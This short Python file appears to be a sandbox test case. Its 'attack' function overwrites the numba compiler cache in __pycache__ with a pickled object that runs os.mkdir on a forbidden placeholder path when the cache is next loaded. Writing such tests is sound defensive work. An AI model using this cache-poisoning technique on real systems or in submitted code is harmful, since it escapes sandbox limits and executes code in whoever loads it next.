"""Leaves code in its own compiler cache for whoever loads it next."""
# sandbox: forbidden
# rules: forbidden

import os
import pickle

import numba


class Evil:
    def __reduce__(self):
        return os.mkdir, ("@FORBIDDEN_FOLDER@/poisoned",)


@numba.njit(cache=True)
def twice(x):
    return 2 * x


def attack(env_data, state, calc_makespan_fn):
    twice(env_data["n"])
    folder = os.path.join(os.path.dirname(__file__), "__pycache__")
    for name in os.listdir(folder):
        try:
            with open(os.path.join(folder, name), "wb") as file:
                file.write(pickle.dumps(Evil()))
        except OSError:
            return state
    return state
